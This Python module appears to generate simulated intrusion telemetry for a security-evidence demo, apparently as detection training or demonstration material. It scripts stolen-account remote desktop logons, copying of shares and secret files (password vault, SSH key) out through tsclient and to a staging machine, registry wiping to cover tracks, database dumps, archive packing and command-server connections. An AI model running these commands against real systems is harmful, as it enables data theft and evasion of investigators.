"""The intrusion on the jump host and the database server, both by remote desktop with the stolen account."""

from __future__ import annotations

from tui.evidence.demo.rows import Process
from tui.evidence.demo.stories.intruder import COMMAND_NAME, COMMAND_SERVER, SENSITIVE, TOOLS, Intruder, documents
from tui.evidence.demo.timing import MINUTE, SECOND

_IN = TOOLS + "in\\"
_OUT = TOOLS + "out\\"


def jump_host(intruder: Intruder, at: int) -> None:
    """adm-jump-01: a desktop from fin-ws-114, then scripts, exports, a capture, shares and files through tsclient."""
    recorder = intruder.recorder
    with recorder.planted("remote-desktop", leg="logons", note="a wrong password for the stolen account"):
        for attempt in range(3):
            recorder.logon(
                "adm-jump-01",
                at - MINUTE + attempt * 11 * SECOND,
                "adm.rlind",
                "Network",
                source=intruder.device("fin-ws-114"),
                failure="InvalidUserNameOrPassword",
                protocol="NTLM",
            )
    shell = intruder.take_desktop(intruder.shell("fin-ws-114"), "adm-jump-01", at, 170)
    intruder.footholds["adm-jump-01"] = shell
    with recorder.planted("T1119-10", note="shares of many servers tried within the hour"):
        servers = ("fs01", "fs02", "bkp-03", "db-01", "build-01", "deploy-01", "mon-01")
        end = intruder.map_shares(shell, servers, at + 2 * MINUTE)
        recorder.start("cmd", "{image} /c pushd \\\\fs02\\Sales && dir /s /b", shell, end)
    with recorder.planted("T1119-01", "T1119-10", note="robocopy reads the sales share"):
        tool = recorder.start("robocopy", f"robocopy \\\\fs02\\Sales {_IN}sal /e /mt:8", shell, end + 10 * SECOND)
        end = intruder.read_files(tool, documents("offer", 64), "fs02", "Sales", _IN + "sal\\", end + 11 * SECOND)
    _jump_host_secrets(intruder, shell, end + MINUTE)
    _jump_host_scripts(intruder, shell, end + 8 * MINUTE)
    with recorder.planted("T1119-04", note="traffic capture"):
        command = f'"{{image}}" -i 2 -w {_OUT}jump.pcapng'
        intruder.capture(shell, "dumpcap_renamed", command, _OUT + "jump.pcapng", end + 20 * MINUTE, size=61_000_000)


def _jump_host_secrets(intruder: Intruder, shell: Process, at: int) -> None:
    recorder = intruder.recorder
    secrets = (
        ("it-vault.kdbx", ""),
        ("id_rsa", ""),
        ("Passwords 2024.xlsx", "Confidential"),
        ("Secret recovery keys.pdf", ""),
    )
    with recorder.planted("T1119-08", "T1119-01", note="secrets copied from a share"):
        copy = recorder.start("xcopy", f"xcopy \\\\fs02\\Public\\IT {_IN}it /s /y", shell, at)
        end = intruder.read_files(copy, secrets, "fs02", "Public", _IN + "it\\", at + SECOND)
    with recorder.planted("T1119-08", note="secrets read"):
        intruder.sensitive_reads(shell, end, _IN + "it\\")
    with recorder.planted("T1119-01", "T1119-08", note="files taken through the desktop's drive"):
        command = f"xcopy {_IN}it \\\\tsclient\\C\\ProgramData\\Helper\\in /y"
        copy = recorder.start("xcopy", command, shell, end + MINUTE)
        for number, (name, label) in enumerate(secrets):
            when = end + MINUTE + (2 + number) * SECOND
            recorder.write(copy, f"\\\\tsclient\\C\\ProgramData\\Helper\\in\\{name}", 70_000, when, label=label)
    with recorder.planted("T1119-08", note="sensitive files moved and deleted"):
        recorder.start("cmd", f"{{image}} /c move {_IN}it\\id_rsa {_OUT}k1", shell, end + 2 * MINUTE)
        command = "{image} delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU /f"
        recorder.start("reg", command, shell, end + 2 * MINUTE + 9 * SECOND)


def _jump_host_scripts(intruder: Intruder, shell: Process, at: int) -> None:
    recorder = intruder.recorder
    with recorder.planted("T1119-03", note="script archives a share"):
        for number, share in enumerate(("Sales", "Production", "Public")):
            when = at + number * 2 * MINUTE
            command = f'powershell.exe -Command "& {TOOLS}bk.ps1 -Mode backup -Path \\\\fs02\\{share}\\* -Recurse"'
            script = recorder.start("powershell", command, shell, when)
            recorder.share_connection(script.device, "fs02", when + SECOND)
            with recorder.planted("T1119-02", note="archive packed by a script"):
                recorder.write(script, f"{_OUT}{share.lower()}.zip", 130_000_000 + number, when + 50 * SECOND)
            recorder.connect(script, when + 55 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)
    with recorder.planted("T1119-02", note="archive packed by rar"):
        tool = recorder.start("rar_renamed", f'"{{image}}" a -r {_OUT}it.rar {_IN}it', shell, at + 7 * MINUTE)
        recorder.write(tool, f"{_OUT}it.rar", 88_000_000, at + 7 * MINUTE + 30 * SECOND)
    with recorder.planted("T1119-05", note="directory exported"):
        for number, source in enumerate(("Get-ADUser -Filter *", "Get-ADGroupMember Administrators")):
            when = at + (9 + number) * MINUTE
            path = f"{_OUT}ad{number}.csv"
            command = f'powershell.exe -Command "{source} | Export-Csv {path}"'
            script = recorder.start("powershell", command, shell, when)
            recorder.event(script, when + SECOND, "PowerShellCommand", additional='{"Command":"Export-Csv"}')
            recorder.connect(script, when + 2 * SECOND, recorder.estate.device("dc01"), 389)
            recorder.write(script, path, 510_000, when + 8 * SECOND)
    with recorder.planted("T1119-07", note="script exports and packs, run after run"):
        for run in range(5):
            when = at + (12 + run) * MINUTE
            command = f"powershell.exe -ExecutionPolicy Bypass -File {TOOLS}pull.ps1 export copy"
            script = recorder.start("powershell", command, shell, when)
            tool = intruder.child("robocopy", f"robocopy \\\\fs02\\Public {_IN}pub /e", script, when + SECOND)
            recorder.write(tool, f"{_IN}pub\\notice {run}.pdf", 80_000, when + 3 * SECOND)
            recorder.share_connection(script.device, "fs02", when + 2 * SECOND)


def database_server(intruder: Intruder, at: int) -> None:
    """db-01: a desktop from the jump host, three dump tools, then everything goes to the staging machine."""
    recorder = intruder.recorder
    shell = intruder.take_desktop(intruder.shell("adm-jump-01"), "db-01", at, 65)
    database = recorder.running("db-01", "sql server", at)
    with recorder.planted("T1119-10", note="shares of many servers tried within the hour"):
        servers = ("fs01", "fs02", "bkp-03", "web-01", "deploy-01", "mfg-ws-208")
        intruder.map_shares(shell, servers, at + 2 * MINUTE)
    with recorder.planted("T1119-06", note="databases dumped"):
        for number, name in enumerate(("wharf", "payroll", "crm")):
            when = at + (3 + number * 4) * MINUTE
            path = f"{_OUT}{name}.bak"
            command = f'"{{image}}" -S localhost -Q "BACKUP DATABASE {name} TO DISK=\'{path}\' WITH COPY_ONLY"'
            tool = recorder.start("sqlcmd", command, shell, when)
            recorder.connect(tool, when + SECOND, "127.0.0.1", 1433)
            recorder.write(database, path, 900_000_000 + number, when + 9 * SECOND)
        for number, name in enumerate(("employees", "salary", "customers")):
            when = at + (16 + number * 2) * MINUTE
            path = f"{_OUT}{name}.csv"
            tool = recorder.start("bcp", f'"{{image}}" payroll.dbo.{name} out {path} -c -T -S db-01', shell, when)
            recorder.connect(tool, when + SECOND, recorder.estate.device("db-01"), 1433)
            recorder.write(tool, path, 40_000_000 + number, when + 9 * SECOND)
        for number, name in enumerate(("orders", "portal")):
            when = at + (23 + number * 3) * MINUTE
            tool = recorder.start(
                "mysqldump_renamed", f'"{{image}}" --single-transaction -r {_OUT}{name}.sql {name}', shell, when
            )
            recorder.connect(tool, when + SECOND, "127.0.0.1", 3306)
            recorder.write(tool, f"{_OUT}{name}.sql", 300_000_000 + number, when + 20 * SECOND)
    _database_server_leaves(intruder, shell, at + 30 * MINUTE)


def _database_server_leaves(intruder: Intruder, shell: Process, at: int) -> None:
    recorder = intruder.recorder
    with recorder.planted("T1119-02", note="dumps packed into volumes below 100 MB"):
        tool = recorder.start("seven_zip_renamed", f'"{{image}}" a -v95m {_OUT}db.7z {_OUT}*.bak', shell, at)
        for volume in range(1, 7):
            recorder.write(tool, f"{_OUT}db.7z.{volume:03}", 99_614_720 - volume, at + volume * 20 * SECOND)
    with recorder.planted("T1119-01", "T1119-10", note="dumps copied to the staging machine"):
        when = at + 4 * MINUTE
        copy = recorder.start(
            "xcopy", f"xcopy {_OUT}*.7z.* \\\\mfg-ws-208\\C$\\ProgramData\\Helper\\in /y", shell, when
        )
        for volume in range(1, 7):
            moment = when + volume * 15 * SECOND
            recorder.share_connection(copy.device, "mfg-ws-208", moment)
            recorder.write_by_share(
                "mfg-ws-208", f"{_IN}db.7z.{volume:03}", 99_614_720 - volume, moment + SECOND, share="C$",
                account="adm.rlind", source=copy.device,
            )  # fmt: skip
    with recorder.planted("T1119-01", note="sensitive files copied out of a folder of the server"):
        when = at + 7 * MINUTE
        copy = recorder.start("robocopy_renamed", f'"{{image}}" D:\\Reports {_OUT}rep /e', shell, when)
        for number, (name, label) in enumerate(SENSITIVE[:5]):
            with recorder.planted("T1119-08", note="sensitive file copied out of a folder of the server"):
                recorder.write(copy, f"{_OUT}rep\\{name}", 300_000, when + (2 + number) * SECOND, label=label)
    scheduler = recorder.running("db-01", "scheduler", at)
    with recorder.planted("T1119-07", note="scheduled script exports tables"):
        for run in range(6):
            when = at + (10 + 3 * run) * MINUTE
            command = f"powershell.exe -File {TOOLS}tables.ps1 export backup"
            script = recorder.start("powershell", command, scheduler, when)
            tool = intruder.child("seven_zip_renamed", f'"{{image}}" a {_OUT}t{run}.zip {_OUT}', script, when + SECOND)
            recorder.write(tool, f"{_OUT}t{run}.zip", 21_000_000, when + 9 * SECOND)
            recorder.connect(script, when + 12 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)
